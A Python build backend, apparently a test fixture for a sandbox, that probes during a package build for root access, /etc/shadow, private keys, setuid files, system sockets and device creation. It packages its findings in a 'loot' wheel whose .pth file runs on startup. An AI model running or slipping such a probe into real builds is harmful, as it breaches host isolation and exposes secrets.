"""A build backend that tries what it can reach: the module that it builds contains the results."""

import os
import socket
import zipfile

done = []


def attempt(what, act):
    try:
        act()
        done.append(what)
    except OSError:
        pass


def read_keys():
    wanted = ("privkey.pem", "environment.secret", "environment", "activate")
    found = [os.path.join(folder, name) for folder, _, names in os.walk("/opt/tlsup") for name in names if name in wanted]
    if not found:
        raise OSError


def talk(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.connect(path)


def set_user_id():
    open("/var/tmp/shell", "wb").close()
    os.chmod("/var/tmp/shell", 0o4755)


def others():
    if any(name.isdigit() and os.stat(f"/proc/{name}").st_uid != os.getuid() for name in os.listdir("/proc")):
        return
    raise OSError


def build_wheel(directory, config_settings=None, metadata_directory=None):
    attempt("is root", lambda: os.setuid(0))
    attempt("reads passwords", lambda: open("/etc/shadow").close())
    attempt("finds files of a site", read_keys)
    attempt("writes to /etc", lambda: open("/etc/tlsup-was-here", "w").close())
    attempt("writes to memory that others see", lambda: open("/dev/shm/tlsup-was-here", "w").close())
    attempt("writes to root's folder", lambda: open("/root/tlsup-was-here", "w").close())
    attempt("makes files that change the user", set_user_id)
    attempt("talks to the bus", lambda: talk("/run/dbus/system_bus_socket"))
    attempt("talks to systemd", lambda: talk("/run/systemd/private"))
    attempt("sees processes of others", others)
    attempt("makes a device", lambda: os.mknod("/var/tmp/device", 0o20666, os.makedev(1, 3)))
    leave()
    with zipfile.ZipFile(f"{directory}/loot-1.0-py3-none-any.whl", "w") as wheel:
        wheel.writestr("loot.py", f"text = {', '.join(done) or 'nothing'!r}\n")
        wheel.writestr("loot.pth", "import os; os.access('/root', os.W_OK) and open('/root/tlsup-was-here', 'w')\n")
        wheel.writestr("loot-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: loot\nVersion: 1.0\n")
        wheel.writestr("loot-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr("loot-1.0.dist-info/RECORD", "")
    return "loot-1.0-py3-none-any.whl"


def environment():
    """The folder of the environment that is being made."""
    return next(os.path.join(folder, "virtualenv") for folder, names, _ in os.walk("/var/tmp") if "virtualenv" in names)


def leave():
    """Nothing; a test appends another function of this name."""
